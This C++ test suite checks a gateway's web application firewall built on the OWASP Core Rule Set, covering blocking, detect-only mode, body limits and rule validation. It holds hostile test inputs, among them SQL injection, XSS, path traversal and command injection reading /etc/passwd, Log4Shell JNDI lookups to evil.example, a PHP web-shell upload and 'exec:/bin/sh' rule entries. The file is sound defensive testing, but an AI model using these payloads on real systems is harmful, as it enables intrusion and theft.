// The Core Rule Set before a real gateway: what it stops, what it lets pass, and that nobody gets by when it cannot
// look.
#include "gateway/stages/firewall.h"

#include <fmt/format.h>

#include <fstream>
#include <latch>
#include <span>

#include "gateway/stages/stage_fixture.h"

namespace gatehouse::gateway {
namespace {

using Lines = std::vector<std::string>;

// Remembers the bodies, too.
struct Firewall : StageFixture {
  std::shared_ptr<Firewalls> all = std::make_shared<Firewalls>(1);

  std::shared_ptr<Stage> stage(const FirewallConfig& config = {}) const {
    return made(make_firewall_stage(config, all));
  }
  void open_echo(const FirewallConfig& config = {}) {  // before the application that echoes bodies
    auto whole = this->config({stage(config)});
    whole.pools.front().targets = {house.app_url()};
    open_all(whole);
  }
  HttpAnswer post(std::string_view type, std::string_view body, std::string_view line = "POST /echo") {
    return ask(line, {"Content-Type: " + std::string(type)}, body);
  }
  std::string metrics() const {
    Exposition out;
    all->write(out);
    return out.str();
  }
};

std::string part(std::string_view disposition, std::string_view content, std::string_view more = {}) {
  return "--XX\r\nContent-Disposition: form-data; " + std::string(disposition) + "\r\n" + std::string(more) + "\r\n" +
         std::string(content) + "\r\n";
}

// A file of rules that is gone when the test is.
struct RuleFile {
  std::string path = testing::TempDir() + "gatehouse-rules-" + std::to_string(::getpid()) + ".conf";
  explicit RuleFile(std::string_view text) { write(text); }
  ~RuleFile() { std::remove(path.c_str()); }
  void write(std::string_view text) const { std::ofstream(path) << text; }
};

TEST_F(Firewall, attacks_in_the_head_are_refused) {
  open({stage()});
  const std::pair<const char*, Lines> attacks[] = {
      {"GET /a?q=1%27%20or%201%3D1--", {}},
      {"GET /a?q=%3Cscript%3Ealert(1)%3C/script%3E", {}},
      {"GET /a?f=..%2f..%2f..%2fetc%2fpasswd", {}},
      {"GET /a?f=%2525%2e%252e/etc/passwd", {}},
      {"GET /a?x=;cat+/etc/passwd", {}},
      {"GET /", {"X-Api-Version: ${jndi:ldap://evil.example/a}"}},
      {"GET /", {"X-Api-Version: ${${lower:j}ndi:ldap://evil.example/a}"}},
      {"GET /", {"Cookie: a=1; b=%3Cscript%3Ealert(1)%3C/script%3E"}},
      {"GET /", {"Referer: http://a.example/?q=<script>alert(1)</script>"}},
      {"GET /", {"User-Agent: sqlmap/1.7"}},
  };
  for (const auto& [line, lines] : attacks) {
    const auto answer = ask(line, lines);
    EXPECT_EQ(answer.status, 403) << line << (lines.empty() ? "" : lines.front());
    EXPECT_FALSE(answer.body.contains("942")) << "which rule it was tells an attacker what to try next";
  }
  EXPECT_EQ(app.asked, 0);
}

TEST_F(Firewall, attacks_in_bodies_are_refused_before_a_byte_goes_on) {
  open({stage()});
  const std::pair<const char*, std::string> attacks[] = {
      {"application/x-www-form-urlencoded", "a=b&q=1%27+or+1%3D1--"},
      {"application/json", R"({"deep": [{"q": "1' or 1=1--"}]})"},
      {"application/json; charset=utf-8", R"({"q": "\u003cscript\u003ealert(1)\u003c/script\u003e"})"},
      {"application/vnd.api+json", R"({"q": "1' or 1=1--"})"},
      {"application/xml", "<a><b>1' or 1=1--</b></a>"},
      {"multipart/form-data; boundary=XX", part("name=\"q\"", "1' or 1=1--") + "--XX--\r\n"},
      {"multipart/form-data; boundary=XX",
       part("name=\"f\"; filename=\"a.php\"", "<?php system($_GET[1]);", "Content-Type: text/plain\r\n") +
           "--XX--\r\n"},
  };
  for (const auto& [type, body] : attacks) EXPECT_EQ(post(type, body).status, 403) << type << "\n" << body;
  EXPECT_EQ(app.asked, 0);
}

TEST_F(Firewall, honest_requests_pass_with_the_very_bytes_that_were_inspected) {
  open_echo();
  EXPECT_EQ(ask("GET /page?q=hello+world&n=3", {"User-Agent: Mozilla/5.0", "Cookie: theme=dark"}).status, 200);
  const std::pair<const char*, std::string> bodies[] = {
      {"application/json", R"({"name": "Ada Lovelace", "tags": ["a", "b"], "n": 1.5e3})"},
      {"application/x-www-form-urlencoded", "name=Ada+Lovelace&note=three+apples"},
      {"multipart/form-data; boundary=XX",
       part("name=\"f\"; filename=\"a.png\"", std::string(50'000, '\x89'), "Content-Type: image/png\r\n") +
           "--XX--\r\n"},
      {"application/merge-patch+json", R"({"a": null})"},
  };
  for (const auto& [type, body] : bodies) {
    const auto answer = post(type, body);
    EXPECT_EQ(answer.status, 200) << type;
    EXPECT_EQ(answer.body, body) << type;
  }
  EXPECT_EQ(ask("DELETE /x", {"Content-Type: application/json"}).status, 200) << "no body at all is fine";
}

TEST_F(Firewall, chunked_bodies_are_read_as_a_whole) {
  open_echo();
  const auto chunked = [&](const std::vector<std::string>& pieces, std::string_view trailer = {}) {
    RawClient client(house.port());
    client.send(
        "POST /echo HTTP/1.1\r\nHost: app.test\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n");
    for (const auto& piece : pieces) client.send(fmt::format("{:x}\r\n{}\r\n", piece.size(), piece));
    client.send("0\r\n" + std::string(trailer) + "\r\n");
    return client.read();
  };
  EXPECT_EQ(chunked({"q=1%2", "7+or+1", "%3D1--"}).status, 403) << "an attack in pieces";
  const auto fine = chunked({"a=", "b"}, "X-Note: ${jndi:ldap://evil.example/a}\r\n");
  EXPECT_EQ(fine.status, 200);
  EXPECT_EQ(fine.body, "a=b");
  EXPECT_TRUE(house.app.last().all("x-note").empty());
}

// What one parser takes and another takes differently is not let through: SpiderLabs/ModSecurity advisories,
// CVE-2021-42717.
TEST_F(Firewall, bodies_that_can_be_read_in_two_ways_are_refused) {
  open({stage()});
  const auto many = [] {
    std::string form;
    for (int i = 0; i < 1500; ++i) form += "a" + std::to_string(i) + "=1&";
    return form + "q=1%27+or+1%3D1--";
  }();
  const std::pair<const char*, std::string> bodies[] = {
      {"application/json", R"({"a": )"},
      {"application/json", R"({"a": "b"} {"q": 1})"},
      {"application/json", std::string(200, '[') + std::string(200, ']')},
      {"application/json", std::string("\xff\xfe{\0}\0", 6)},
      {"application/xml", "<a><b></a>"},
      {"multipart/form-data; boundary=XX", part("name=\"q\"", "1")},  // no end
      {"multipart/form-data; boundary=XX; boundary=YY", part("name=\"q\"", "1") + "--XX--\r\n"},
      {"multipart/form-data", part("name=\"q\"", "1") + "--XX--\r\n"},
      {"multipart/form-data; boundary=XX",
       "--XX\nContent-Disposition: form-data; name=\"q\"\n\n1\n--XX--\n"},  // bare LF
      {"multipart/form-data; boundary=XX", part("name=\"q\"; name=\"r\"", "1") + "--XX--\r\n"},
      {"application/x-www-form-urlencoded", many},
  };
  for (const auto& [type, body] : bodies) {
    const auto status = post(type, body).status;
    EXPECT_TRUE(status == 400 || status == 403) << status << " " << type << "\n" << body.substr(0, 200);
  }
  EXPECT_EQ(ask("POST /", {"Content-Type: text/plain", "Content-Type: application/json"}, "{}").status, 400);
  EXPECT_EQ(ask("POST /", {"Content-Type: application/json", "Content-Encoding: gzip"}, "{}").status, 415);
  EXPECT_EQ(app.asked, 0);
}

TEST_F(Firewall, detecting_lets_everything_pass_and_counts) {
  FirewallConfig config;
  config.mode = FirewallConfig::Mode::detect;
  config.body_max = 2048;
  open_echo(config);
  EXPECT_EQ(ask("GET /a?q=1%27%20or%201%3D1--").status, 200);
  const std::string attack = "q=1%27+or+1%3D1--", broken = R"({"a": )", large = "a=" + std::string(10'000, 'x');
  EXPECT_EQ(post("application/x-www-form-urlencoded", attack).body, attack);
  EXPECT_EQ(post("application/json", broken).body, broken);
  EXPECT_EQ(post("application/x-www-form-urlencoded", large).body, large);
  EXPECT_TRUE(metrics().contains(R"(gatehouse_firewall_matches_total{group="sqli",verdict="would_block"} 2)"))
      << metrics();
  EXPECT_TRUE(metrics().contains(R"({group="body",verdict="would_block"} 1)")) << metrics();
}

TEST_F(Firewall, a_body_over_the_limit_is_refused_or_seen_in_part) {
  FirewallConfig refusing, partial;
  refusing.body_max = partial.body_max = 2048;
  partial.over_body_max = FirewallConfig::OverBodyMax::inspect_start;
  auto whole = config({stage(refusing)});
  whole.pools.front().targets = {house.app_url()};
  whole.routes.push_back(whole.routes.front());
  whole.routes.back().path = "/echo";
  whole.routes.back().stages = {stage(partial)};
  open_all(whole);

  const auto form = [](std::size_t size) { return "a=" + std::string(size - 2, 'x'); };
  EXPECT_EQ(post("application/x-www-form-urlencoded", form(2048), "POST /x").status, 200);
  EXPECT_EQ(post("application/x-www-form-urlencoded", form(2049), "POST /x").status, 413);
  RawClient chunks(house.port());
  chunks.send(
      "POST /x HTTP/1.1\r\nHost: app.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: "
      "chunked\r\n\r\n");
  const auto piece = form(1500);
  for (int i = 0; i < 3; ++i) chunks.send(fmt::format("{:x}\r\n{}\r\n", piece.size(), piece));
  EXPECT_EQ(chunks.read().status, 413);

  const auto large = form(100'000);
  const auto answer = post("application/x-www-form-urlencoded", large);
  EXPECT_EQ(answer.status, 200);
  EXPECT_EQ(answer.body, large);
  EXPECT_EQ(post("application/json", R"({"a": ")" + large + "\"}").status, 200)
      << "half a JSON text is no fault of the client";
  EXPECT_EQ(post("application/x-www-form-urlencoded", "q=1%27+or+1%3D1--&" + large).status, 403);
}

TEST_F(Firewall, rules_are_left_out_by_number_range_and_tag) {
  const auto status_with = [&](std::vector<std::string> exclude, std::vector<std::string> tags) {
    FirewallConfig config;
    config.exclude = std::move(exclude);
    config.exclude_tags = std::move(tags);
    const auto rules = all->rules(config);
    EXPECT_TRUE(rules) << rules.error().message();
    Inspection inspection(*rules);
    InspectedRequest request{.id = "r",
                             .client = "10.0.0.1",
                             .server = "app.test",
                             .method = "GET",
                             .target = "/a?q=1%27%20or%201%3D1--",
                             .version = "1.1",
                             .fields = {{"Host", "app.test"}, {"User-Agent", "Mozilla/5.0"}, {"Accept", "*/*"}},
                             .body = {}};
    return inspection.request(request).outcome;
  };
  EXPECT_EQ(status_with({}, {}), Inspected::Outcome::blocked);
  EXPECT_EQ(status_with({"942100"}, {}), Inspected::Outcome::clean);
  EXPECT_EQ(status_with({"942000-942999"}, {}), Inspected::Outcome::clean);
  EXPECT_EQ(status_with({}, {"attack-sqli"}), Inspected::Outcome::clean);
  EXPECT_EQ(status_with({"941100"}, {"attack-xss"}), Inspected::Outcome::blocked);
}

TEST_F(Firewall, paranoia_and_threshold_decide_how_much_is_too_much) {
  const auto outcome = [&](int paranoia, int threshold, const char* target) {
    FirewallConfig config;
    config.paranoia = paranoia;
    config.threshold = threshold;
    Inspection inspection(all->rules(config).value());
    InspectedRequest request{.id = "r",
                             .client = "10.0.0.1",
                             .server = "app.test",
                             .method = "GET",
                             .target = target,
                             .version = "1.1",
                             .fields = {{"Host", "app.test"}, {"User-Agent", "Mozilla/5.0"}, {"Accept", "*/*"}},
                             .body = {}};
    return inspection.request(request);
  };
  const auto* attack = "/a?q=1%27%20or%201%3D1--";
  EXPECT_EQ(outcome(1, 5, attack).outcome, Inspected::Outcome::blocked);
  EXPECT_EQ(outcome(1, 5, attack).score, 5);
  EXPECT_EQ(outcome(1, 100, attack).outcome, Inspected::Outcome::clean);
  EXPECT_GT(outcome(3, 1000, attack).score, outcome(1, 1000, attack).score);
}

TEST_F(Firewall, own_rules_stand_beside_the_core_rules) {
  const RuleFile file(
      "# no robots\nSecRule REQUEST_HEADERS:User-Agent \"@contains robot\" \\\n    "
      "\"id:1000,phase:1,deny,log,msg:'robot'\"\n");
  FirewallConfig config;
  config.rules = {file.path, "owasp-crs"};
  open({stage(config)});
  EXPECT_EQ(get({"User-Agent: a robot"}).status, 403);
  EXPECT_EQ(get({"User-Agent: a person"}).status, 200);
  EXPECT_EQ(ask("GET /a?q=1%27%20or%201%3D1--").status, 403);
  EXPECT_TRUE(metrics().contains(R"({group="own",verdict="blocked"} 1)")) << metrics();
}

TEST_F(Firewall, the_same_rules_are_compiled_once) {
  const RuleFile file("SecAction \"id:1,phase:1,pass,nolog\"\n");
  FirewallConfig config;
  config.rules = {file.path};
  const auto first = all->rules(config).value();
  config.mode = FirewallConfig::Mode::detect;  // says what follows from a match, not what matches
  EXPECT_EQ(all->rules(config).value(), first);
  file.write("SecAction \"id:2,phase:1,pass,nolog\"\n");
  EXPECT_NE(all->rules(config).value(), first);
}

TEST_F(Firewall, a_full_queue_closes_the_door_and_other_routes_stay_open) {
  all = std::make_shared<Firewalls>(1, 1);
  std::latch free(1), busy(1);
  ASSERT_TRUE(all->pool().post([&] {
    busy.count_down();
    free.wait();
  }));
  busy.wait();
  ASSERT_TRUE(all->pool().post([] {}));  // and one waits: the queue is full
  FirewallConfig detecting;
  detecting.mode = FirewallConfig::Mode::detect;
  auto whole = config({stage()});
  for (const auto* path : {"/other", "/detect"}) {
    whole.routes.push_back(whole.routes.front());
    whole.routes.back().path = path;
  }
  whole.routes[1].stages.clear();
  whole.routes[2].stages = {stage(detecting)};
  open_all(whole);
  const auto refused = get();
  EXPECT_EQ(refused.status, 503);
  EXPECT_EQ(refused.header("Retry-After"), "1");
  EXPECT_EQ(ask("GET /other").status, 200);
  EXPECT_EQ(ask("GET /detect").status, 200) << "a firewall that only watches is in nobody's way";
  EXPECT_TRUE(metrics().contains(R"(verdict="failed"} 2)")) << metrics();
  free.count_down();
  while (get().status == 503) {
  }  // as soon as the thread has come round
  EXPECT_EQ(get().status, 200);
}

// A type is easily claimed: it must not be a way around the rules.
TEST_F(Firewall, a_body_is_not_spared_for_calling_itself_grpc) {
  open({stage()});
  const auto bad = ask("POST /form", {"Content-Type: application/grpc"}, "a=1' or 1=1--");
  EXPECT_EQ(app.asked, 0) << bad.head;
}

TEST_F(Firewall, messages_of_grpc_pass_where_it_is_spoken) {
  FirewallConfig config;
  config.grpc = true;
  open({stage(config)});
  const Lines grpc{"Content-Type: application/grpc", "TE: trailers"};
  const auto bad =
      ask("POST /pkg.Service/Do", {"Content-Type: application/grpc", "X-A: ${jndi:ldap://evil.example}"}, "....");
  EXPECT_EQ(bad.status, 200);
  EXPECT_EQ(bad.header("grpc-status"), "7") << bad.head;
  EXPECT_EQ(ask("POST /pkg.Service/Do", grpc, "1' or 1=1--").status, 200) << app.asked;
  EXPECT_EQ(app.asked, 1);
}

constexpr std::string_view kLeak =
    "<html>Warning: mysql_connect(): You have an error in your SQL syntax; check the manual that corresponds to your "
    "MySQL server version</html>";

TEST_F(Firewall, answers_that_give_something_away_are_withheld) {
  FirewallConfig config, detecting;
  config.answers = detecting.answers = true;
  config.answer_max = 4096;
  detecting.mode = FirewallConfig::Mode::detect;
  auto whole = this->config({stage(config)});
  whole.routes.push_back(whole.routes.front());
  whole.routes.back().path = "/detect";
  whole.routes.back().stages = {stage(detecting)};
  open_all(whole);

  const std::string leak(kLeak), page(20'000, 'p');
  app.reply = net::Reply::html(500, leak);
  const auto withheld = get({"Accept-Encoding: gzip"});
  EXPECT_EQ(withheld.status, 403);
  EXPECT_FALSE(withheld.body.contains("SQL"));
  EXPECT_TRUE(app.all("accept-encoding").empty()) << "what is compressed cannot be read";
  EXPECT_EQ(ask("GET /detect").body, leak);

  app.pieces = {leak.substr(0, 60), leak.substr(60)};
  app.reply = net::Reply::html(200, "");
  EXPECT_EQ(get().status, 403) << "in pieces";
  app.pieces = {page.substr(0, 5000), page.substr(5000)};
  EXPECT_EQ(get().body, page) << "longer than what is inspected";
  app.pieces = {page, leak};
  EXPECT_EQ(get().body, page + leak) << "documented: what lies beyond answer_max is not seen";
  app.pieces.clear();
  app.reply = net::Reply::json_text(200, R"({"fine": true})");
  EXPECT_EQ(get().body, R"({"fine": true})");
  app.reply = net::Reply::text(200, leak);
  app.reply.headers = {{"Content-Type", "image/png"}};
  EXPECT_EQ(get().body, leak) << "no text";
}

TEST(FirewallRules, files_that_reach_outside_are_refused_with_their_place) {
  const std::pair<const char*, const char*> files[] = {
      {"SecRemoteRules key https://rules.example/a\n",
       ":1: SecRemoteRules: is decided by gatehouse; rules are never fetched"},
      {"\n  secremoterules key https://rules.example/a", ":2:"},
      {"SecAction \"id:1,pass,exec:/bin/sh\"", ":1: exec: rules cannot start programs"},
      {"SecRule ARGS \"@rx a\" \\\n \"id:1,pass,\\\n  exec : '/bin/sh'\"", ":1: exec"},
      {"SecAction 'id:1,pass' SecRemoteRules a https://b", ":1:"},
      {"SecAction \"id:1,pass\" SecAuditLog /tmp/x", ":1: SecAction: has 3 words"},
      {"SecRule FILES_TMPNAMES \"@inspectFile /bin/sh\" \"id:1,pass\"", "@inspectFile"},
      {"SecRuleScript /tmp/a.lua \"id:1\"", ":1:"},
      {"SecRule REMOTE_ADDR \"@rbl a.example\" \"id:1,pass\"", "ask nobody"},
      {"SecRule REMOTE_ADDR \"@ipMatchFromFile https://a.example/list\" \"id:1,pass\"", "nothing is fetched"},
      {"SecRule REMOTE_ADDR \"@rx a\" \"id:1,pass,setvar:ip.count=+1\"", "count with `limits`"},
      {"SecRule REMOTE_ADDR \"@rx a\" \"id:1,pass,setvar:'!session.x'\"", "count with `limits`"},
      {"SecRuleEngine Off", "write `mode: block`"},
      {"SecRequestBodyAccess Off", "write `body_max`"},
      {"SecUploadDir /tmp", "'secuploaddir' is not a directive"},
      {"SecAuditLog /etc/passwd", "'secauditlog' is not a directive"},
      {"SecDebugLog /etc/passwd", "is not a directive"},
      {"Include /etc/shadow", "name the file under `rules`"},
      {"# a comment \\\nSecRemoteRules a https://b", ":2:"},
      {"Sec\\\nRemoteRules a https://b", ":1:"},
      {"SecMarker A\nSecRule ARGS \"@contain x\" \"id:1,deny\"", ":2: @contain is not an operator"},
      {"SecRule ARGS \"@rx (a\" \"id:1,deny\"", ":1: the pattern cannot be used: missing closing parenthesis"},
      {"SecRule ARGS \"![a\" \"id:1,deny\"", ":1: the pattern cannot be used"},
  };
  for (const auto& [text, told] : files) {
    const auto checked = check_rule_text({text, "/r.conf"});
    ASSERT_FALSE(checked) << text;
    EXPECT_TRUE(checked.error().message().starts_with("/r.conf:")) << checked.error().message();
    EXPECT_TRUE(checked.error().message().contains(told)) << checked.error().message();
  }
  EXPECT_TRUE(
      check_rule_text({"# SecRule \\\n  \"x\" \\\n  \"exec:/bin/sh\"\n\nSecMarker END\nSecRuleRemoveById 1 2 3-5\n"
                       "SecRule ARGS:exec \"@rx exec:\" \"id:1,pass,setvar:tx.a=1\"\n",
                       "/r.conf"}));
}

TEST(FirewallRules, a_syntax_error_is_told_with_file_and_line) {
  const RuleFile file("SecMarker A\nSecRule ARGS \"@rx x\" \"id:1,phase:2,nosuch:1,pass\"\n");
  FirewallConfig config;
  config.rules = {file.path};
  Firewalls all(1);
  const auto rules = all.rules(config);
  ASSERT_FALSE(rules);
  EXPECT_TRUE(rules.error().message().contains(file.path + ":2: Expecting an action")) << rules.error().message();
  file.write("SecMarker A\nSecRule ARGS \"@rx x\" \"pass\"\n");
  EXPECT_TRUE(all.rules(config).error().message().contains(file.path + ":2: Rules must have an ID"));
  config.rules = {"/nowhere/x.conf"};
  EXPECT_TRUE(all.rules(config).error().message().contains("/nowhere/x.conf: cannot be read"));
  config.rules = {"owasp-crs"};
  config.crs = "/nowhere";
  EXPECT_TRUE(all.rules(config).error().message().contains("install modsecurity-crs"));
}

// CRS 3.3.4, rule 941160: half a minute for each of these, and the pattern given up in silence by PCRE2's own limits.
TEST(FirewallRules, patterns_that_backtrack_without_end_are_given_up_and_the_request_is_blocked) {
  Firewalls all(1);
  FirewallConfig config;
  config.threshold = 1000;   // blocked for nothing else
  InspectedRequest request{.id = "r", .client = "10.0.0.1", .server = "app.test", .method = "POST", .target = "/", .version = "1.1",
                           .fields = {{"Host", "app.test"}, {"User-Agent", "x"}, {"Accept", "*/*"}, {"Content-Type", "application/x-www-form-urlencoded"}},
                           .body = "q=" + std::string(5000, '<') + ";"};
  request.fields.emplace_back("Content-Length", std::to_string(request.body.size()));
  Inspection inspection(all.rules(config).value());
  const auto found = inspection.request(request);
  EXPECT_TRUE(found.given_up);
  EXPECT_EQ(found.outcome, Inspected::Outcome::blocked);
  request.body = "q=" + std::string(5000, 'a');
  Inspection honest(all.rules(config).value());
  EXPECT_EQ(honest.request(request).outcome, Inspected::Outcome::clean);
}

TEST(FirewallRules, core_rules_fit_into_what_own_rules_may_do) {
  FirewallConfig config;
  config.answers = true;
  const auto texts = read_rule_texts(config).value();
  EXPECT_GT(texts.size(), 20u);
  for (const auto& text : texts)
    if (text.file.starts_with('/')) {
      const auto checked = check_rule_text(text);  // above all: a client that makes up names fills no collection
      EXPECT_TRUE(checked) << checked.error().message();
    }
}

// The rules are shared by all threads.
TEST(FirewallRules, many_threads_come_to_the_same_verdicts) {
  Firewalls all(1);
  const auto rules = all.rules({}).value();
  std::atomic<int> wrong = 0;
  {
    std::vector<std::jthread> threads;
    for (int i = 0; i < 4; ++i)
      threads.emplace_back([&, i] {
        for (int j = 0; j < 60; ++j) {
          const bool attack = (i + j) % 2 == 0;
          InspectedRequest request{.id = "r",
                                   .client = "10.0.0.1",
                                   .server = "app.test",
                                   .method = "POST",
                                   .target = "/a",
                                   .version = "1.1",
                                   .fields = {{"Host", "app.test"},
                                              {"User-Agent", "x"},
                                              {"Accept", "*/*"},
                                              {"Content-Type", "application/json"}},
                                   .body = attack ? R"({"q": "1' or 1=1--"})" : R"({"q": "apples"})"};
          request.fields.emplace_back("Content-Length", std::to_string(request.body.size()));
          Inspection inspection(rules);
          const auto found = inspection.request(request);
          if (found.outcome != (attack ? Inspected::Outcome::blocked : Inspected::Outcome::clean) ||
              (attack && found.rules != std::vector{942100}))
            ++wrong;
        }
      });
  }
  EXPECT_EQ(wrong, 0);
}

}  // namespace
}  // namespace gatehouse::gateway
